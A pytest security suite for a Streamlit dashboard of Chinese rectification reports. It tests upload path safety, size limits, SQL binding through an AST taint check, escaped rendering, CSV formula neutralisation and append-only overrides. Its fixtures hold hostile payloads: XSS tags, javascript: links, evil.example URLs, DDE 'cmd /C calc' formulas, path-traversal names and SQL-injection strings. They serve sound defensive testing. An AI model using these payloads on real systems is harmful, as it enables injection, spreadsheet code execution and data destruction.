"""Security of what supervisors feed in and what the dashboard shows: upload names cannot escape their folder,
size limits hold, every SQL value is bound (a static taint check of the sources plus injection attempts),
report text and user input are always rendered escaped, CSV cells cannot become formulas, and overrides are
an append-only history that needs an author.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import fixtures_make as fm
import pytest
from conftest import open_issues
from streamlit.testing.v1 import AppTest

import queries
from loaders.parser.parse import parse_text
from loaders.parser.read import ReadError, read_document
from loaders.parser.read.base import max_file_mb
from loaders.writer import ingest, overrides, store
from views.components.csv_export import to_csv_bytes
from views.components.imports import ImportProblem, check_upload, parse_upload, safe_upload_path, store_upload
from views.components.ui import display_frame
from views.registry import PAGES as REGISTRY

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
PAGES = [p.script for p in REGISTRY]  # the default page first
SOURCE_DIRS = ("loaders", "queries", "views")
UNIT = "湖州市吴兴区"

# --- a hostile report: markup, links and formulas in its title, issue titles and measures ------------------

XSS_TITLE = "<script>alert(1)</script>"
XSS_ISSUE = "<img src=x onerror=alert(2)>"
LINK_ISSUE = "[点我领奖](javascript:alert(3))"
IMAGE_ISSUE = "![追踪](http://evil.example/t.png?alert)"
FORMULA_ISSUE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
FORMULA_MEASURES = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1"]


def hostile_report_text() -> str:
    """Sample 000 with payloads where a web page could put them: the title, issue headings, measure lines."""
    lines = fm.sample_text("000").split("\n")
    lines[0] = f"中共湖州市吴兴区委关于{XSS_TITLE}巡视整改进展情况的通报"
    heads = [k for k, ln in enumerate(lines) if re.match(r"^[一二三四五六七八九十]+、关于“", ln)]
    for k, payload in zip(heads, (FORMULA_ISSUE, XSS_ISSUE, LINK_ISSUE, IMAGE_ISSUE), strict=False):
        lines[k] = re.sub(r"“.+”", f"“{payload}”", lines[k], count=1)
    measure = heads[0] + 1  # the first issue has four measure lines
    for offset, payload in enumerate(FORMULA_MEASURES):
        label = re.match(r"^\([一二三四五六七八九十]+\)", lines[measure + offset])
        assert label
        lines[measure + offset] = label.group(0) + payload + lines[measure + offset][label.end():]
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.txt").write_text(hostile_report_text(), encoding="utf-8")
    db = folder / "hostile.duckdb"
    summary = ingest.ingest_paths([folder], db, workers=1, progress=False)
    assert summary.failures == [] and summary.new == 1
    return db


def test_the_hostile_report_really_carries_its_payloads() -> None:
    report = parse_text(hostile_report_text())[0]
    assert XSS_TITLE in (report.title or "")
    titles = [i.title for i in report.issues]
    for payload in (XSS_ISSUE, LINK_ISSUE, IMAGE_ISSUE):
        assert payload in titles
    formula = next(i for i in report.issues if i.title.startswith("=HYPERLINK"))
    assert [m[:1] for m in formula.measures[:3]] == ["@", "-", "+"]


# --- 1. upload names cannot escape the uploads folder -------------------------------------------------------

HOSTILE_NAMES = [
    "../../etc/passwd.txt",
    "..\\..\\x.txt",
    "/etc/cron.d/evil.txt",
    "C:\\Windows\\System32\\evil.docx",
    "a/b/../../../c.pdf",
    "report.txt\x00.png",
    "nul\x00byte.html",
    "...",
    "..",
    ".",
    "....txt",
    ".txt",
    ".bashrc.txt",
    "~/.ssh/authorized_keys.txt",
    "%2e%2e%2f%2e%2e%2fx.txt",
    "\u202etxt.exe",
    "报告" * 300 + ".docx",
    "x" * 5000 + ".txt",
    "名单\n换行\r.txt",
    " spaces and\ttabs .txt",
    "..\\..\\escape.pdf",
    "/etc/passwd.html",
    "a/../../b.docx",
    "报告.TXT",
]
# The extension each name keeps (lower-cased); anything else is stored as .bin.
KEPT_SUFFIX = {".txt", ".html", ".htm", ".docx", ".pdf"}


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=[repr(n)[:40] for n in HOSTILE_NAMES])
def test_upload_path_stays_inside_the_folder(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "uploads"
    folder.mkdir()
    target = safe_upload_path(folder, name, "ab" * 32)
    assert target.parent == folder.resolve()
    assert target.name.startswith("abababababab_")  # the content's hash first: two uploads never collide
    own = Path(name.replace("\\", "/")).suffix.lower()
    assert target.suffix == (own if own in KEPT_SUFFIX else ".bin")
    assert not re.search(r"[\x00-\x1f/\\]", target.name)
    assert not target.name.startswith(".") and ".." not in target.name.replace("...", "")
    assert len(target.name.encode("utf-8")) <= 255  # the file system's limit for one name


@pytest.mark.parametrize("name", ["../../escaped.txt", "..\\..\\escaped.txt", "/tmp/escaped.txt",
                                  "a\x00b.txt", "x" * 3000 + ".txt"], ids=["dotdot", "backslash", "absolute",
                                                                           "nul", "long"])
def test_stored_upload_lands_in_the_folder_and_nowhere_else(tmp_path: Path, name: str) -> None:
    """The real import flow (parse_upload → store_upload) with a hostile name and a real report."""
    folder = tmp_path / "deep" / "uploads"
    db = tmp_path / "deep" / "db.duckdb"
    before = {p for p in tmp_path.rglob("*")}
    parsed = parse_upload(name, fm.sample_path("003").read_bytes(), limit_mb=20)
    store_upload(parsed, folder, db)
    created = {p for p in tmp_path.rglob("*")} - before
    files = [p for p in created if p.is_file() and not p.name.startswith("db.duckdb")]
    assert len(files) == 1 and files[0].parent == folder
    with store.read_connection(db) as con:
        (path,) = con.execute("SELECT path FROM files").fetchall()[0]
    assert Path(path).parent == folder.resolve()
    assert not Path("/tmp/escaped.txt").exists()


def test_names_that_are_only_dots_or_have_no_report_extension_are_refused() -> None:
    data = fm.sample_path("003").read_bytes()
    for name in ("...", "..", ".", "report", "report.exe", "report.txt.exe", "report.php"):
        with pytest.raises(ImportProblem, match="不支持"):
            check_upload(name, data, limit_mb=20)


def test_importer_page_keeps_a_hostile_upload_inside_its_folder(hostile_db: Path, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """Through the 导入 page itself (AppTest): a file named ../../x.txt is kept under RECTIFY_UPLOADS."""
    db = tmp_path / "db.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    uploads = tmp_path / "a" / "uploads"
    monkeypatch.setenv("RECTIFY_DB", str(db))
    monkeypatch.setenv("RECTIFY_UPLOADS", str(uploads))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    at.switch_page("views/importer.py")
    at.run()
    name = "../../[点我](javascript:alert(4)).txt"
    at.get("file_uploader")[0].upload(name, fm.sample_path("004").read_bytes(), "text/plain")
    at.run()
    assert not at.exception
    next(b for b in at.button if b.label == "确认导入").click()
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("已导入" in s.value for s in at.success)
    kept = list(uploads.iterdir())
    assert len(kept) == 1 and kept[0].suffix == ".txt"
    stray = [p for p in tmp_path.rglob("*") if p.is_file() and p.parent != uploads
             and not p.name.startswith("db.duckdb")]
    assert stray == []
    assert_no_live_markup(all_texts(at))


# --- 2. size limits -----------------------------------------------------------------------------------------


def test_read_layer_refuses_a_file_over_the_limit_without_reading_it(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "big.txt"
    with open(big, "wb") as fh:  # sparse: costs no disk
        fh.truncate(int(max_file_mb() * 2**20) + 1)

    def no_reading(self: Path) -> bytes:
        raise AssertionError(f"{self} was read before its size was checked")

    monkeypatch.setattr(Path, "read_bytes", no_reading)
    with pytest.raises(ReadError, match=r"^big\.txt: the file is 50\.0 MB, over the 50 MB limit"):
        read_document(big)


def test_upload_limit_is_enforced_after_upload_and_below_the_read_limit() -> None:
    from views.components.data import setting

    limit = setting("upload_limit_mb")
    assert 0 < limit <= max_file_mb()
    over = b"x" * (int(limit * 2**20) + 1)
    with pytest.raises(ImportProblem, match="超过"):
        check_upload("big.txt", over, limit_mb=limit)
    with pytest.raises(ImportProblem, match="超过"):
        parse_upload("big.txt", over, limit_mb=limit)  # refused before any parsing
    check_upload("at_limit.txt", b"x" * int(limit * 2**20), limit_mb=limit)  # the limit itself is allowed
    # The uploader widget and the server cap say the same (Streamlit only checks the size in the browser).
    importer = (ROOT / "views" / "importer.py").read_text(encoding="utf-8")
    assert "st.file_uploader(" in importer and re.search(r"max_upload_size\s*=", importer)
    server = (ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert re.search(r"(?m)^maxUploadSize\s*=\s*(\d+)", server)
    assert int(re.search(r"(?m)^maxUploadSize\s*=\s*(\d+)", server).group(1)) <= max_file_mb()


# --- 3. SQL: every value bound ------------------------------------------------------------------------------

SQL_WORDS = re.compile(r"\b(?:SELECT|INSERT|UPDATE|DELETE|DROP|CREATE|ALTER|WHERE|FROM|JOIN|VALUES|LIMIT|"
                       r"ORDER BY|GROUP BY|ATTACH|COPY|PRAGMA|SET)\b")
EXECUTORS = {"execute", "executemany", "sql", "query", "read_sql"}
SANITISERS = {"int", "float", "len", "bool", "round"}  # produce numbers: cannot carry SQL
# Names that are not user data: connections, the parameter collector.
TRUSTED_PARAMS = {"self", "cls", "con", "cur", "p"}
# Parameters that carry SQL text composed by the caller (`_frame(db, sql, p)`, `_issue_rows(where=...)`):
# trusted inside the helper, and checked at every call site in the module instead.
SQL_PARAMS = {"sql", "where", "order", "query", "condition", "conditions"}
# Functions reviewed by hand: (file, function) → why their interpolation is safe.
REVIEWED = {
    ("loaders/writer/store.py", "_insert"): "table names are the keys of the Arrow tables write_files "
    "builds from DATA_TABLES; column names come from the constant _ARROW_SCHEMAS",
}


def python_sources() -> Iterator[Path]:
    for folder in SOURCE_DIRS:
        yield from sorted((ROOT / folder).rglob("*.py"))
    yield ROOT / "app.py"


class TaintCheck(ast.NodeVisitor):
    """Flags SQL text built from function parameters (user values) by f-string, %, .format or +, unless the
    value passes through a `.bind(...)` call (a bound parameter), a numeric conversion, or a helper of the
    same module or of its package's own `base` module (checked on its own; see module_functions)."""

    def __init__(self, rel: str, module_functions: dict[str, list[str]]) -> None:
        self.rel, self.module_functions = rel, module_functions  # name → its parameter names
        self.problems: list[str] = []
        self.function = "<module>"
        self.tainted: set[str] = set()

    def visit_FunctionDef(self, node: ast.FunctionDef | ast.AsyncFunctionDef) -> None:
        saved = self.function, self.tainted
        self.function = node.name
        args = [*node.args.posonlyargs, *node.args.args, *node.args.kwonlyargs]
        args += [a for a in (node.args.vararg, node.args.kwarg) if a]
        self.tainted = set(saved[1]) | {a.arg for a in args if a.arg not in TRUSTED_PARAMS | SQL_PARAMS}
        for _ in range(3):  # propagate through assignments until stable (loops assign late)
            for stmt in ast.walk(node):
                self._propagate(stmt)
        for stmt in node.body:
            self.visit(stmt)
        self.function, self.tainted = saved

    visit_AsyncFunctionDef = visit_FunctionDef

    def _propagate(self, stmt: ast.AST) -> None:
        if isinstance(stmt, ast.Assign | ast.AnnAssign | ast.AugAssign) and stmt.value is not None:
            targets = stmt.targets if isinstance(stmt, ast.Assign) else [stmt.target]
            if self.carries(stmt.value):
                for t in targets:
                    self.tainted |= {n.id for n in ast.walk(t) if isinstance(n, ast.Name)}
        elif isinstance(stmt, ast.For | ast.comprehension):
            self._propagate_loop(stmt.target, stmt.iter)
        elif isinstance(stmt, ast.NamedExpr) and self.carries(stmt.value):
            self.tainted.add(stmt.target.id)

    def _propagate_loop(self, target: ast.AST, it: ast.AST) -> None:
        # `for name, col, values in (("a", "r.a", f.a), ...)`: taint position by position
        if isinstance(target, ast.Tuple) and isinstance(it, ast.Tuple | ast.List) and all(
                isinstance(e, ast.Tuple) and len(e.elts) == len(target.elts) for e in it.elts):
            for pos, t in enumerate(target.elts):
                if any(self.carries(e.elts[pos]) for e in it.elts):
                    self.tainted |= {n.id for n in ast.walk(t) if isinstance(n, ast.Name)}
        elif self.carries(it):
            self.tainted |= {n.id for n in ast.walk(target) if isinstance(n, ast.Name)}

    def carries(self, expr: ast.AST) -> bool:
        """Whether user data can reach the value of `expr`."""
        if isinstance(expr, ast.Name):
            return expr.id in self.tainted
        if isinstance(expr, ast.Compare):  # a boolean
            return False
        if isinstance(expr, ast.IfExp):  # the condition does not reach the value
            return self.carries(expr.body) or self.carries(expr.orelse)
        if isinstance(expr, ast.Call):
            f = expr.func
            if isinstance(f, ast.Attribute) and f.attr == "bind":
                return False
            if isinstance(f, ast.Name) and (f.id in SANITISERS or f.id in self.module_functions):
                return False
            return any(self.carries(c) for c in ast.iter_child_nodes(expr))
        if isinstance(expr, ast.Lambda):
            return False
        return any(self.carries(c) for c in ast.iter_child_nodes(expr))

    def _flag(self, node: ast.AST, expr: ast.AST) -> None:
        if (self.rel, self.function) not in REVIEWED:
            text = ast.unparse(expr)
            self.problems.append(f"{self.rel}:{node.lineno} {self.function}(): SQL built from {text!r}")

    def visit_JoinedStr(self, node: ast.JoinedStr) -> None:
        literal = "".join(v.value for v in node.values
                          if isinstance(v, ast.Constant) and isinstance(v.value, str))
        if SQL_WORDS.search(literal):
            for v in node.values:
                if isinstance(v, ast.FormattedValue) and self.carries(v.value):
                    self._flag(node, v.value)
        self.generic_visit(node)

    def visit_BinOp(self, node: ast.BinOp) -> None:
        if isinstance(node.op, ast.Mod | ast.Add):
            sides = (node.left, node.right)
            if any(isinstance(s, ast.Constant) and isinstance(s.value, str) and SQL_WORDS.search(s.value)
                   for s in sides):
                for s in sides:
                    if self.carries(s):
                        self._flag(node, s)
        self.generic_visit(node)

    def visit_Call(self, node: ast.Call) -> None:
        f = node.func
        if isinstance(f, ast.Attribute):
            if (f.attr == "format" and isinstance(f.value, ast.Constant) and isinstance(f.value.value, str)
                    and SQL_WORDS.search(f.value.value)):
                for a in [*node.args, *(k.value for k in node.keywords)]:
                    if self.carries(a):
                        self._flag(node, a)
            if f.attr in EXECUTORS and node.args and self.carries(node.args[0]):
                self._flag(node, node.args[0])
        if isinstance(f, ast.Name) and f.id in self.module_functions:  # SQL text handed to a helper
            params = self.module_functions[f.id]
            passed = [(params[k] if k < len(params) else "", a) for k, a in enumerate(node.args)]
            passed += [(k.arg or "", k.value) for k in node.keywords]
            for name, value in passed:
                if name in SQL_PARAMS and self.carries(value):
                    self._flag(node, value)
        self.generic_visit(node)


def own_functions(tree: ast.Module) -> dict[str, list[str]]:
    """The module's top-level functions: name → positional parameter names."""
    return {n.name: [a.arg for a in (*n.args.posonlyargs, *n.args.args)] for n in tree.body
            if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)}


def package_base(rel: str, root: Path = ROOT) -> tuple[str, Path] | None:
    """(dotted name, file) of the `base` module of the package `rel` sits in, if that package has one."""
    folder = Path(rel).parent
    base = root / folder / "base.py"
    if folder == Path(".") or not (root / folder / "__init__.py").is_file() or not base.is_file():
        return None
    return ".".join(folder.parts) + ".base", base


def module_functions(tree: ast.Module, rel: str = "", root: Path = ROOT) -> dict[str, list[str]]:
    """The helpers whose calls are trusted (and whose SQL parameters are checked at the call site): the
    module's own functions, and the functions it imports from its own package's `base` module (a package
    split out of one module keeps its shared helpers there; base.py is checked on its own). A helper imported
    from anywhere else — another module, another package's base — is not trusted."""
    helpers = own_functions(tree)
    found = package_base(rel, root)
    if found is None:
        return helpers
    dotted, base = found
    shared = own_functions(ast.parse(base.read_text(encoding="utf-8")))
    for node in tree.body:
        if isinstance(node, ast.ImportFrom) and (
                (node.level == 0 and node.module == dotted) or (node.level == 1 and node.module == "base")):
            for alias in node.names:
                if alias.name in shared:
                    helpers.setdefault(alias.asname or alias.name, shared[alias.name])
    return helpers


def sql_problems(path: Path, root: Path = ROOT) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    rel = path.relative_to(root).as_posix()
    check = TaintCheck(rel, module_functions(tree, rel, root))
    check.visit(tree)
    return check.problems


def test_no_sql_is_built_from_user_values() -> None:
    problems = [p for path in python_sources() for p in sql_problems(path)]
    assert problems == []


def test_the_taint_check_catches_injectable_sql() -> None:
    """The check itself: each of these must be flagged, the safe forms must not."""
    bad = '''
def a(con, name):
    con.execute(f"SELECT * FROM issues WHERE title = '{name}'")
def b(con, name):
    needle = name.strip()
    sql = "SELECT * FROM issues WHERE title LIKE '%%%s%%'" % needle
    con.execute(sql)
def c(con, unit):
    con.execute("DELETE FROM reports WHERE unit = '{}'".format(unit))
def d(con, col):
    for name, column in (("x", col),):
        con.execute(f"SELECT {column} FROM issues")
def e(con, clause):
    con.execute("SELECT * FROM issues WHERE " + clause)
def f(con, user_sql):
    con.execute(user_sql)
def _frame(db, sql, p=None):
    return sql
def h(db, p, search):
    return _frame(db, f"SELECT * FROM issues WHERE title = '{search}'", p)
def i(db, p, search):
    return _frame(db, "SELECT 1", where=search)
'''
    good = '''
TABLES = ("issues", "reports")
def _frame(db, sql, p=None):
    return sql
def g(con, p, name, limit, db):
    for table in TABLES:
        con.execute(f"SELECT count(*) FROM {table}")
    con.execute(f"SELECT * FROM issues WHERE title = {p.bind('t', name)} LIMIT {int(limit)}")
    con.execute("SELECT * FROM issues WHERE title = ?", [name])
    page = f"LIMIT {p.bind('limit', int(limit))}" if limit is not None else ""
    return _frame(db, f"SELECT * FROM issues {page}", p)
'''
    for source, expected in ((bad, 8), (good, 0)):
        tree = ast.parse(source)
        check = TaintCheck("tests/_taint_probe.py", module_functions(tree))
        check.visit(tree)
        assert len({p.split()[1] for p in check.problems}) == expected, check.problems


def test_the_taint_check_trusts_only_the_own_packages_base_helpers(tmp_path: Path) -> None:
    """A package split out of one module: helpers imported from its own base module are trusted (and the SQL
    handed to them is checked at the call site); the same helpers imported from elsewhere are not."""
    base = """
def _frame(db, sql, p=None):
    return sql
def _ctes(f, p, search="", query=""):
    return f"WITH fi AS (SELECT * FROM issues WHERE title = {p.bind('s', search)}) {query}"
"""
    files = {
        "pkg/__init__.py": "",
        "pkg/base.py": base,
        "pkg/other.py": base,
        "pkg/good.py": """
from pkg.base import _ctes, _frame
from .base import _frame as frame
def g(db, f, p, unit, search):
    frame(db, f"{_ctes(f, p, search)} SELECT * FROM fi WHERE unit = {p.bind('u', unit)}", p)
    return _frame(db, f"{_ctes(f, p, query='SELECT 1')} SELECT count(*) FROM fi", p)
""",
        "pkg/bad.py": """
from pkg.base import _ctes, _frame
from pkg.other import _ctes as other_ctes
def a(db, p, search):
    return _frame(db, f"SELECT * FROM issues WHERE title = '{search}'", p)
def b(db, f, p, clause):
    return _frame(db, _ctes(f, p, query=clause), p)
def c(db, f, p):
    return _frame(db, f"{other_ctes(f, p)} SELECT 1", p)
def d(con, f, p):
    con.execute(f"SELECT * FROM issues WHERE {undefined_helper(f, p)}")
""",
        "app/__init__.py": "",
        "app/base.py": "",
        "app/view.py": """
from pkg.base import _ctes
def e(con, f, p):
    con.execute(f"{_ctes(f, p)} SELECT * FROM fi")
""",
    }
    for rel, source in files.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(source, encoding="utf-8")
    found = {rel: {p.split()[1] for p in sql_problems(tmp_path / rel, tmp_path)} for rel in files}
    assert found["pkg/good.py"] == set() and found["pkg/base.py"] == set()
    assert found["pkg/bad.py"] == {"a():", "b():", "c():", "d():"}
    assert found["app/view.py"] == {"e():"}


def test_only_the_storage_modules_import_duckdb() -> None:
    # The writer, and the connections both sides share; the read side (queries/) opens them through
    # loaders/database.py and never names duckdb itself.
    allowed = {"loaders/writer/store.py", "loaders/writer/ingest.py", "loaders/database.py"}
    importers = {p.relative_to(ROOT).as_posix() for p in python_sources()
                 if re.search(r"(?m)^\s*(?:import duckdb|from duckdb\b)", p.read_text(encoding="utf-8"))}
    assert importers <= allowed
    assert {"loaders/writer/store.py", "loaders/database.py"} <= importers  # the pattern does find an import


INJECTIONS = ["'; DROP TABLE issues; --", "\"; DROP TABLE reports; --", "' OR '1'='1", "%", "_", "\\",
              "1); DELETE FROM files; --", "$search", "?", "整改'--", "\x00"]


@pytest.mark.parametrize("text", INJECTIONS, ids=[repr(t) for t in INJECTIONS])
def test_injection_attempts_in_search_and_filters_are_plain_text(hostile_db: Path, text: str) -> None:
    before = store.table_checksums(hostile_db)
    f = queries.Filters()
    n = queries.issues_count(hostile_db, f, text)
    rows = queries.issues_page(hostile_db, f, text, 50, 0)
    # A literal substring search: exactly the issues whose title or measures contain the text.
    with store.read_connection(hostile_db) as con:
        expected = con.execute("SELECT count(*) FROM issues WHERE contains(lower(title), lower(?)) OR "
                               "issue_key IN (SELECT issue_key FROM measures "
                               "WHERE contains(lower(text), lower(?)))",
                               [text.strip(), text.strip()]).fetchall()[0][0] if text.strip() else n
    assert n == expected and len(rows) == min(n, 50)
    hostile = queries.Filters(units=(text,), categories=(text,), statuses=(text,), provinces=(text,))
    assert queries.issues_count(hostile_db, hostile, text) == 0
    assert queries.key_figures(hostile_db, hostile)["issues"].iloc[0] == 0
    assert store.table_checksums(hostile_db) == before  # every table still there, unchanged


def test_explorer_search_box_with_sql_returns_normally(hostile_db: Path, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    db = tmp_path / "db.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    monkeypatch.setenv("RECTIFY_DB", str(db))
    before = store.table_checksums(db)
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    at.switch_page("views/issues.py")
    at.run()
    at.text_input(key="issue_search").input("'; DROP TABLE issues; --")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("共 0 条" in m.value for m in at.markdown)
    assert store.table_checksums(db) == before


# --- 4. everything shown is escaped -------------------------------------------------------------------------


def test_no_raw_html_rendering_anywhere_in_the_dashboard() -> None:
    raw_html = re.compile(r"unsafe_allow_html\s*=\s*True|st\.html\(|components\.v1|components\.html|"
                          r"_repr_html_|st\.components")
    offenders = [f"{p.relative_to(ROOT)}:{n}" for p in python_sources()
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
                 if raw_html.search(line)]
    assert offenders == []


def all_texts(at: AppTest) -> list[str]:
    """Every markdown-rendered text of a run: markdown, captions, headings, alerts, widget labels."""
    out: list[str] = []
    for kind in ("markdown", "caption", "title", "header", "subheader", "error", "warning", "info", "success",
                 "toast"):
        out += [str(e.value) for e in getattr(at, kind)]
    for kind in ("expander", "button", "selectbox", "multiselect", "text_input", "radio", "metric", "tabs"):
        out += [str(getattr(e, "label", "")) for e in getattr(at, kind, [])]
    return out


def assert_no_live_markup(texts: list[str]) -> None:
    """A text holding a payload must hold it escaped: with every backslash-escaped character removed, no tag,
    link or image syntax is left."""
    for text in texts:
        if "alert" not in text:
            continue
        bare = re.sub(r"\\.", "", text)
        for live in ("<script", "<img", "](", "!["):
            assert live not in bare, f"unescaped {live!r} in: {text[:200]}"


@pytest.mark.parametrize("page", PAGES)
def test_hostile_report_text_is_shown_escaped_on_every_page(hostile_db: Path, tmp_path: Path, page: str,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    db = tmp_path / "db.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    monkeypatch.setenv("RECTIFY_DB", str(db))
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params = {"u": UNIT}
    at.run()
    if page != PAGES[0]:
        at.switch_page(page)
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    if page == "views/unit.py":
        open_issues(at)  # every issue's evidence, measures and history drawn too
    texts = all_texts(at)
    assert_no_live_markup(texts)
    if page == "views/unit.py":  # the page that prints report and issue titles as markdown
        shown = "\n".join(texts)
        for payload in (XSS_TITLE, XSS_ISSUE, LINK_ISSUE, IMAGE_ISSUE):
            assert re.sub(r"\\(.)", r"\1", shown).count(payload) >= 1, f"{payload} is not shown at all"


def test_correction_form_shows_a_hostile_author_and_note_escaped(hostile_db: Path, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    db = tmp_path / "db.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    monkeypatch.setenv("RECTIFY_DB", str(db))
    with store.read_connection(db) as con:
        (key,) = con.execute("SELECT issue_key FROM issues WHERE title = ?", [XSS_ISSUE]).fetchall()[0]
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    at.switch_page("views/quality.py")
    at.run()
    at.text_input(key="ov_search").input(key).run()  # the picker lists search results: find it by its key
    at.selectbox(key="ov_issue").set_value(key)
    at.run()
    at.radio(key="ov_status").set_value("完成")
    at.text_area(key="ov_note").input("<script>alert(5)</script>")
    at.text_input(key="ov_author").input("![x](http://evil.example/alert.png)")
    next(b for b in at.button if b.label == "保存更正").click()
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("已保存" in s.value for s in at.success)
    assert_no_live_markup(all_texts(at))
    history = overrides.overrides_oldest_first(db, key)
    assert [(o.author, o.note) for o in history] == [("![x](http://evil.example/alert.png)",
                                                      "<script>alert(5)</script>")]


# --- 5. CSV cells cannot become formulas --------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\x00")


def test_csv_export_of_hostile_issues_neutralises_every_formula(hostile_db: Path) -> None:
    """The 问题清单 download: queries.issues_page → display_frame → to_csv_bytes, on ingested payloads."""
    rows = queries.issues_page(hostile_db, queries.Filters(), "")
    data = to_csv_bytes(display_frame(rows, list(rows.columns)))
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [c for row in table[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    # The payloads are still there, readable, behind the apostrophe.
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'" + FORMULA_MEASURES[0]) for c in cells)  # the measures cell starts with one
    for payload in FORMULA_MEASURES[1:]:  # later lines of a cell are not its start: kept verbatim
        assert any(payload in c for c in cells), payload


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\x00=1", "=", "-", "@"])
def test_csv_neutralises_every_formula_prefix_in_text_columns(cell: str) -> None:
    import pandas as pd

    frame = pd.DataFrame({"text": [cell, "正常文字"], "number": [-5, 3], "ratio": [-0.5, 1.0]})
    table = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert table[1][0] == "'" + cell and table[2][0] == "正常文字"
    assert table[1][1:] == ["-5", "-0.5"]  # numbers stay numbers


# --- 6. overrides: append-only history with an author -------------------------------------------------------


@pytest.fixture()
def override_db(hostile_db: Path, tmp_path: Path) -> tuple[Path, str]:
    db = tmp_path / "db.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    with store.read_connection(db) as con:
        (key,) = con.execute("SELECT issue_key FROM issues ORDER BY issue_key LIMIT 1").fetchall()[0]
    return db, key


@pytest.mark.parametrize("author", ["", "   ", "\t\n", "\u3000", None])
def test_override_without_an_author_is_refused(override_db: tuple[Path, str], author: str | None) -> None:
    db, key = override_db
    before = store.table_checksums(db)
    with pytest.raises(overrides.OverrideError, match="author"):
        overrides.add_override(db, key, "完成", "依据台账", author)  # type: ignore[arg-type]
    assert store.table_checksums(db) == before


def test_a_second_override_adds_a_row_and_never_changes_the_first(override_db: tuple[Path, str]) -> None:
    db, key = override_db
    first = overrides.add_override(db, key, "完成", "台账已销号", "李督查")
    second = overrides.add_override(db, key, "未完成", "现场核查仍未完工", "王巡视")
    history = overrides.overrides_oldest_first(db, key)
    assert history == [first, second]  # oldest first, the first row exactly as written
    assert second.override_id > first.override_id
    with store.read_connection(db) as con:
        assert con.execute("SELECT count(*) FROM overrides").fetchall()[0][0] == 2
        effective = con.execute("SELECT effective_status FROM issues_effective WHERE issue_key = ?",
                                [key]).fetchall()[0][0]
    assert effective == "未完成"  # the latest correction is in force


def test_no_code_updates_or_deletes_overrides() -> None:
    mutation = re.compile(r"(?i)\b(?:UPDATE\s+overrides|DELETE\s+FROM\s+overrides|DROP\s+TABLE\s+overrides|"
                          r"TRUNCATE\s+overrides|INSERT\s+OR\s+REPLACE\s+INTO\s+overrides)\b")
    sources = [*python_sources(), ROOT / "loaders" / "writer" / "schema.sql"]
    assert [str(p.relative_to(ROOT)) for p in sources if mutation.search(p.read_text(encoding="utf-8"))] == []


def run_cli(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "loaders", *map(str, args)], cwd=ROOT, capture_output=True,
                          text=True, timeout=60)


def test_cli_override_needs_an_author_and_appends(override_db: tuple[Path, str]) -> None:
    db, key = override_db
    before = store.table_checksums(db)
    blank = run_cli("override", key, "完成", "--author", "   ", "--db", db)
    assert blank.returncode == 1 and "needs the name of its author" in blank.stderr
    missing = run_cli("override", key, "完成", "--db", db)
    assert missing.returncode == 2 and "--author" in missing.stderr
    assert store.table_checksums(db) == before
    for status, author in (("完成", "李督查"), ("阶段性完成", "王巡视")):
        proc = run_cli("override", key, status, "--author", author, "--note", "'; DROP TABLE overrides; --",
                       "--db", db)
        assert proc.returncode == 0, proc.stderr
    listed = run_cli("overrides", "--issue", key, "--json", "--db", db)
    history = json.loads(listed.stdout)
    note = "'; DROP TABLE overrides; --"
    assert [(h["status"], h["author"], h["note"]) for h in history] == [("完成", "李督查", note),
                                                                        ("阶段性完成", "王巡视", note)]
    for proc in (blank, missing, listed):
        assert "Traceback" not in proc.stdout + proc.stderr
